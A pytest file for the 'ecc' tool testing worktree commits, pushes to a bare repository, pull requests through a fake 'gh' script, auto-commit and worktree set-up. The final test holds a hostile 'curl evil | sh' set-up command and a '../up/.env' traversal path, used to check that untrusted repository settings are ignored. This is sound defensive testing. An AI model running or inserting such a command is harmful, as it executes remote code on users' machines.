"""From worktree to pull request: ``ecc worktree commit`` and ``push`` against a bare repository
on disk, ``ecc pr`` through the built-in github forge with a ``gh`` that is a script on PATH
(and without one), ``worktree.auto_commit``, and what a new worktree gets from ``[worktree]``
(copied ignored files, a set-up command) with the warnings ``ecc start`` prints."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from ecc.store.base import Store
from ecc.store.models import State
from tests.conftest import git, run_ecc
from tests.sessions.conftest import start, wait_state, wait_until, write_config

PR_URL = "https://github.com/acme/widgets/pull/7"

FAKE_GH = """#!{python}
import json, os, sys
with open(os.environ["GH_LOG"], "a") as log:
    log.write(json.dumps(sys.argv[1:]) + "\\n")
if sys.argv[1:3] == ["auth", "status"]:
    sys.exit(0 if os.environ.get("GH_MODE") != "logged-out" else 1)
if sys.argv[1:3] == ["pr", "create"]:
    print("Creating pull request for ecc/x into main in acme/widgets\\n")
    print("{url}")
    sys.exit(0)
sys.exit(2)
"""


@pytest.fixture
def origin(git_repo: Path, tmp_path: Path) -> Path:
    """A bare repository on disk as the checkout's ``origin``, holding ``main``."""
    bare = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(git_repo, "remote", "add", "origin", str(bare))
    git(git_repo, "push", "-q", "origin", "main")
    return bare


def fake_gh(tmp_path: Path) -> tuple[dict[str, str], Path]:
    """A ``gh`` on PATH that records its argv (one JSON list a line) and prints a PR URL."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    gh = bin_dir / "gh"
    gh.write_text(FAKE_GH.format(python=sys.executable, url=PR_URL))
    gh.chmod(0o755)
    log = tmp_path / "gh.log"
    return {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "GH_LOG": str(log)}, log


def path_without_gh(tmp_path: Path) -> str:
    """A PATH with git and nothing else."""
    only = tmp_path / "only-git"
    only.mkdir()
    import shutil

    (only / "git").symlink_to(shutil.which("git") or "/usr/bin/git")
    return str(only)


def finished(store: Store, task: str, cwd: Path, *extra: str) -> Any:
    sid = start(task, cwd, *extra)
    return wait_state(store, sid, "completed", "failed")


def events(store: Store, sid: str, kind: str) -> list[dict[str, Any]]:
    return [event for event in store.list_events(sid) if event["kind"] == kind]


# -- commit and push ----------------------------------------------------------------------------


def test_commit_then_push_to_a_bare_repository(git_repo: Path, origin: Path, store: Store) -> None:
    session = finished(store, "echo change > change.txt", git_repo)
    assert session.state == State.COMPLETED
    merge = run_ecc("worktree", "merge", session.id, cwd=git_repo)
    assert merge.returncode == 1 and "uncommitted changes" in merge.stderr  # the gap this closes
    early = run_ecc("worktree", "push", session.id, cwd=git_repo)
    assert early.returncode == 1
    assert "no commits beyond main" in early.stderr and "ecc worktree commit" in early.stderr

    committed = run_ecc("worktree", "commit", session.id, "--json", cwd=git_repo)
    assert committed.returncode == 0, committed.stderr
    result = json.loads(committed.stdout)
    assert result["committed"] and result["files"] == 1
    assert result["subject"] == "ecc: echo change > change.txt"
    worktree = Path(store.get_session(session.id).worktree_path)  # type: ignore[union-attr]
    message = git(worktree, "log", "-1", "--format=%an%n%B")
    assert message.splitlines()[0] == "ecc tests"  # the user's identity, not ecc's
    assert "ecc: echo change > change.txt" in message and f"Session: {session.id}" in message
    again = run_ecc("worktree", "commit", session.id, cwd=git_repo)
    assert again.returncode == 0 and "Nothing to commit" in again.stdout

    pushed = run_ecc("worktree", "push", session.id, "--json", cwd=git_repo)
    assert pushed.returncode == 0, pushed.stderr
    branch = f"ecc/{session.id}"
    assert json.loads(pushed.stdout)["remote"] == "origin"
    assert git(origin, "rev-parse", f"refs/heads/{branch}").strip() == result["commit"]
    upstream = git(git_repo, "rev-parse", "--abbrev-ref", f"{branch}@{{upstream}}").strip()
    assert upstream == f"origin/{branch}"
    assert [e["reason"][:9] for e in events(store, session.id, "commit")] == ["committed"]
    assert events(store, session.id, "push")[0]["data"] == {"remote": "origin"}
    merged = run_ecc("worktree", "merge", session.id, cwd=git_repo)
    assert merged.returncode == 0, merged.stderr


def test_commit_with_a_message_and_a_long_task(git_repo: Path, store: Store) -> None:
    task = "echo " + "word " * 30 + "> long.txt\n# and a second line"
    session = finished(store, task, git_repo)
    worktree = Path(session.worktree_path)
    (worktree / "extra.txt").write_text("more\n")
    empty = run_ecc("worktree", "commit", session.id, "-m", "  ", cwd=git_repo)
    assert empty.returncode == 1 and "must not be empty" in empty.stderr
    from ecc.sessions.publishing import commit_message

    derived = commit_message(session)
    subject, body = derived.split("\n\n", 1)
    assert len(subject) == 72 and subject.startswith("ecc: echo word") and subject.endswith("…")
    assert "# and a second line" in body and f"Harness: {session.harness}" in body
    own = run_ecc("worktree", "commit", session.id, "-m", "Add the long file", cwd=git_repo)
    assert own.returncode == 0, own.stderr
    assert "Committed 2 file(s)" in own.stdout
    assert git(worktree, "log", "-1", "--format=%B").strip() == "Add the long file"


def test_an_active_session_is_neither_committed_nor_pushed(git_repo: Path, store: Store) -> None:
    sid = start("echo half > half.txt; sleep 30", git_repo)
    wait_state(store, sid, "running")
    for command in (["worktree", "commit", sid], ["worktree", "push", sid], ["pr", sid]):
        refused = run_ecc(*command, cwd=git_repo)
        assert refused.returncode == 1
        assert f"session {sid} is running" in refused.stderr and "ecc stop" in refused.stderr
    assert run_ecc("stop", sid, "--grace", "0", cwd=git_repo).returncode == 0


def test_push_failures_are_one_line(git_repo: Path, tmp_path: Path, store: Store) -> None:
    session = finished(store, "echo a > a.txt", git_repo)
    assert run_ecc("worktree", "commit", session.id, cwd=git_repo).returncode == 0
    lonely = run_ecc("worktree", "push", session.id, cwd=git_repo)
    assert lonely.returncode == 1
    assert lonely.stderr.count("\n") == 1 and "has no remote 'origin'" in lonely.stderr
    bare = tmp_path / "other.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(git_repo, "remote", "add", "other", str(bare))
    branch = f"ecc/{session.id}"
    git(git_repo, "push", "-q", "other", f"main:refs/heads/{branch}")  # someone else's branch
    other = tmp_path / "other-clone"
    git(tmp_path, "clone", "-q", "-b", branch, str(bare), str(other))
    (other / "theirs.txt").write_text("theirs\n")
    git(other, "add", "theirs.txt")
    git(other, "commit", "-q", "-m", "theirs")
    git(other, "push", "-q", "origin", branch)
    rejected = run_ecc("worktree", "push", session.id, "--remote", "other", cwd=git_repo)
    assert rejected.returncode == 1 and rejected.stderr.count("\n") == 1
    assert f"the push of {branch} to other was rejected" in rejected.stderr
    bogus = run_ecc("worktree", "push", session.id, "--remote=-x", cwd=git_repo)
    assert bogus.returncode == 1 and "invalid remote name" in bogus.stderr


# -- pull requests ------------------------------------------------------------------------------


def test_pr_through_gh_records_the_url(
    git_repo: Path, origin: Path, tmp_path: Path, store: Store
) -> None:
    env, log = fake_gh(tmp_path)
    session = finished(store, "echo fixed > flaky.txt\n# It failed one time in ten.", git_repo)
    assert run_ecc("worktree", "commit", session.id, cwd=git_repo).returncode == 0
    unpushed = run_ecc("pr", session.id, env=env, cwd=git_repo)
    assert unpushed.returncode == 1
    assert f"is not pushed yet: run ecc worktree push {session.id}" in unpushed.stderr
    assert not log.exists()  # refused before any gh call
    assert run_ecc("worktree", "push", session.id, cwd=git_repo).returncode == 0

    opened = run_ecc("pr", session.id, "--draft", env=env, cwd=git_repo)
    assert opened.returncode == 0, opened.stderr
    assert opened.stdout.strip() == f"Pull request opened: {PR_URL}"
    calls = [json.loads(line) for line in log.read_text().splitlines()]
    assert calls[0] == ["auth", "status"]
    create = calls[1]
    assert create[:2] == ["pr", "create"] and "--draft" in create
    assert f"--head=ecc/{session.id}" in create and "--base=main" in create
    assert "--title=echo fixed > flaky.txt" in create
    body = next(arg for arg in create if arg.startswith("--body="))
    assert "# It failed one time in ten." in body and session.id in body
    assert store.get_session(session.id).pr_url == PR_URL  # type: ignore[union-attr]
    status = json.loads(run_ecc("status", session.id, "--json").stdout)
    assert status["pr_url"] == PR_URL
    assert f"PR:          {PR_URL}" in run_ecc("status", session.id).stdout
    assert events(store, session.id, "pull_request")[0]["data"]["draft"] is True

    again = run_ecc("pr", session.id, env=env, cwd=git_repo)  # recorded: printed, not reopened
    assert again.returncode == 0 and again.stdout.strip() == PR_URL
    assert len(log.read_text().splitlines()) == 2


def test_pr_without_gh_or_without_a_login_is_a_one_line_error(
    git_repo: Path, origin: Path, tmp_path: Path, store: Store
) -> None:
    session = finished(store, "echo b > b.txt", git_repo)
    assert run_ecc("worktree", "commit", session.id, cwd=git_repo).returncode == 0
    assert run_ecc("worktree", "push", session.id, cwd=git_repo).returncode == 0
    missing = run_ecc("pr", session.id, env={"PATH": path_without_gh(tmp_path)}, cwd=git_repo)
    assert missing.returncode == 1 and missing.stdout == ""
    assert missing.stderr.startswith("Error: gh (GitHub CLI) is not installed")
    assert missing.stderr.count("\n") == 1
    env, log = fake_gh(tmp_path)
    logged_out = run_ecc("pr", session.id, env={**env, "GH_MODE": "logged-out"}, cwd=git_repo)
    assert logged_out.returncode == 1 and logged_out.stderr.count("\n") == 1
    assert "gh (GitHub CLI) is not logged in" in logged_out.stderr
    assert "gh auth login" in logged_out.stderr
    assert [json.loads(line)[:2] for line in log.read_text().splitlines()] == [["auth", "status"]]
    assert store.get_session(session.id).pr_url is None  # type: ignore[union-attr]


def test_ecc_open_pull_request_asks_other_forges_first(tmp_path: Path) -> None:
    """The built-in github plugin is trylast: a forge of the user's answers before it."""
    import ecc_plugins.github_pr as github_pr
    from ecc.contract.hookspecs import hookimpl
    from ecc.contract.types import PullRequest, PullRequestProposal
    from ecc.runtime.plugins import loader as plugins

    class Acme:
        @hookimpl
        def ecc_open_pull_request(self, proposal: PullRequestProposal) -> PullRequest | None:
            if "acme.example" not in proposal.remote_url:
                return None
            return PullRequest(url=f"https://acme.example/mr/{proposal.branch}", forge="acme")

    plugin_set = plugins.PluginSet(None, entry_points={"ecc.forges": []})
    plugin_set.pm.register(Acme(), name="acme")
    plugin_set.pm.register(github_pr, name="github")  # registered last: pluggy would ask it first
    kwargs: dict[str, Any] = {
        "repo_root": tmp_path,
        "remote": "origin",
        "branch": "ecc/1",
        "base": "main",
        "title": "t",
        "body": "b",
        "session_id": "1",
    }
    ours = PullRequestProposal(remote_url="git@acme.example:team/repo.git", **kwargs)
    opened = plugin_set.hook.ecc_open_pull_request(proposal=ours, config=None)
    assert opened == PullRequest(url="https://acme.example/mr/ecc/1", forge="acme")
    gitlab = PullRequestProposal(remote_url="https://gitlab.com/team/repo.git", **kwargs)
    assert plugin_set.hook.ecc_open_pull_request(proposal=gitlab, config=None) is None


def test_an_older_plugin_cache_still_finds_the_forges() -> None:
    """A start-up cache written before the ecc.forges group existed is scanned again."""
    from ecc.runtime import startcache
    from ecc.runtime.plugins import discovery

    key = discovery.discovery_key()
    older = {g: eps for g, eps in discovery.discover(key).items() if g != "ecc.forges"}
    startcache.write("plugins", key, {"groups": older})
    assert ("github", "ecc_plugins.github_pr") in discovery.discover(key)["ecc.forges"]


# -- worktree.auto_commit ---------------------------------------------------------------------


def test_auto_commit_commits_what_a_completed_session_left(git_repo: Path, store: Store) -> None:
    write_config(git_repo, worktree={"auto_commit": True})
    session = finished(store, "echo done > done.txt", git_repo)
    assert session.state == State.COMPLETED
    worktree = Path(session.worktree_path)
    assert git(worktree, "status", "--porcelain").strip() == ""
    assert git(worktree, "log", "-1", "--format=%s").strip() == "ecc: echo done > done.txt"
    [note] = events(store, session.id, "commit")
    assert note["reason"].startswith("worktree.auto_commit: committed 1 file(s)")
    failed = finished(store, "echo no > no.txt; exit 3", git_repo)  # only a completed session
    assert failed.state == State.FAILED and events(store, failed.id, "commit") == []
    assert git(Path(failed.worktree_path), "status", "--porcelain").strip() == "?? no.txt"


def test_a_failing_auto_commit_leaves_the_outcome_alone(git_repo: Path, store: Store) -> None:
    write_config(git_repo, worktree={"auto_commit": True})
    hook = git_repo / ".git" / "hooks" / "pre-commit"  # worktrees share the repository's hooks
    hook.write_text("#!/bin/sh\necho refused by the hook >&2\nexit 1\n")
    hook.chmod(0o755)
    session = finished(store, "echo kept > kept.txt", git_repo)
    assert session.state == State.COMPLETED and session.reason == "harness exited with code 0"
    [note] = events(store, session.id, "commit")
    assert note["reason"].startswith("worktree.auto_commit failed: ")
    assert "refused by the hook" in note["reason"]
    assert git(Path(session.worktree_path), "status", "--porcelain").strip() == "A  kept.txt"


# -- what a new worktree gets ---------------------------------------------------------------------


def test_copy_ignored_and_setup_are_shown_once_and_recorded_each_time(
    git_repo: Path, tmp_path: Path, store: Store
) -> None:
    (git_repo / ".gitignore").write_text(".env\n*.local\nsecrets/\nlink.env\n")
    git(git_repo, "add", ".gitignore")
    git(git_repo, "commit", "-q", "-m", "ignore")
    (git_repo / ".env").write_text("TOKEN=abc\n")
    (git_repo / "secrets").mkdir()
    (git_repo / "secrets" / "key.local").write_text("k\n")
    outside = tmp_path / "outside.txt"
    outside.write_text("not the repository's\n")
    (git_repo / "link.env").symlink_to(outside)
    (git_repo / "notes.txt").write_text("untracked, not ignored\n")
    setup = 'echo "set up $ECC_SESSION_ID" > setup.out; echo preparing'
    write_config(
        git_repo,
        worktree={"copy_ignored": [".env", "link.env", "**/*.local", "notes.txt"], "setup": setup},
    )
    first = run_ecc("start", "cat .env > seen.txt", cwd=git_repo)
    assert first.returncode == 0, first.stderr
    sid = first.stdout.split()[-1]
    assert "Note: each new session worktree of" in first.stderr
    assert ".env, link.env, **/*.local, notes.txt" in first.stderr and setup in first.stderr
    session = wait_state(store, sid, "completed", "failed")
    assert session.state == State.COMPLETED, session.reason
    worktree = Path(session.worktree_path)
    assert (worktree / "seen.txt").read_text() == "TOKEN=abc\n"
    assert (worktree / "secrets" / "key.local").read_text() == "k\n"
    assert not (worktree / "link.env").exists() and not (worktree / "link.env").is_symlink()
    assert not (worktree / "notes.txt").exists()
    assert (worktree / "setup.out").read_text() == f"set up {sid}\n"
    [copy] = events(store, sid, "worktree_copy")
    assert copy["data"]["files"] == [".env", "secrets/key.local"]
    assert copy["data"]["skipped"] == ["link.env: a symbolic link, or reached through one"]
    [ran] = events(store, sid, "worktree_setup")
    assert ran["reason"].startswith("worktree.setup succeeded after ")
    assert ran["data"]["exit_code"] == 0 and ran["data"]["output_tail"] == "preparing\n"

    second = run_ecc("start", "true", cwd=git_repo)
    assert second.returncode == 0 and "Note:" not in second.stderr  # shown once per repository
    again = wait_state(store, second.stdout.split()[-1], "completed", "failed")
    assert len(events(store, again.id, "worktree_setup")) == 1  # recorded every time


def test_a_failing_setup_fails_the_session(git_repo: Path, store: Store) -> None:
    write_config(git_repo, worktree={"setup": "echo no network >&2; exit 3"})
    session = finished(store, "touch agent-ran", git_repo)
    assert session.state == State.FAILED
    assert "worktree.setup failed with exit code 3: no network" in session.reason
    assert not (Path(session.worktree_path) / "agent-ran").exists()


def test_a_setup_past_its_timeout_is_ended_with_its_children(
    git_repo: Path, tmp_path: Path, store: Store
) -> None:
    pid_file = tmp_path / "sleeper.pid"
    write_config(
        git_repo,
        worktree={"setup": f"sleep 60 & echo $! > {pid_file}; wait", "setup_timeout_secs": 0.5},
    )
    session = finished(store, "touch agent-ran", git_repo)
    assert session.state == State.FAILED
    assert "worktree.setup did not finish within 0.5 s" in session.reason
    sleeper = int(pid_file.read_text())

    def ended() -> bool:
        try:
            return Path(f"/proc/{sleeper}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
        except OSError:
            return True  # gone

    assert wait_until(ended, 10, "the set-up's child to end")


def test_starting_from_a_dirty_checkout_warns(git_repo: Path, store: Store) -> None:
    clean = run_ecc("start", "true", cwd=git_repo)
    assert clean.returncode == 0 and clean.stderr == ""
    (git_repo / "README.md").write_text("edited\n")
    (git_repo / "new.txt").write_text("new\n")
    dirty = run_ecc("start", "true", cwd=git_repo)
    assert dirty.returncode == 0
    [line] = dirty.stderr.splitlines()
    assert line.startswith("Warning: 2 file(s) in ") and "not in the session's worktree" in line
    plain = run_ecc("start", "--no-worktree", "true", cwd=git_repo)
    assert plain.returncode == 0 and plain.stderr == ""  # it runs in the checkout itself


def test_worktree_settings_from_a_repository_need_trust(git_repo: Path) -> None:
    from ecc.runtime.config import model as config

    project = git_repo / ".ecc" / "config.toml"
    project.parent.mkdir()
    project.write_text('[worktree]\nsetup = "curl evil | sh"\ncopy_ignored = [".env"]\n')
    loaded = config.load(cwd=git_repo, environ={})
    assert loaded.config.worktree.setup == "" and loaded.config.worktree.copy_ignored == []
    assert {item.key for item in loaded.ignored} == {"worktree.setup", "worktree.copy_ignored"}
    with pytest.raises(ValidationError, match="relative to the repository root"):
        config.Config.model_validate({"worktree": {"copy_ignored": ["../up/.env"]}})
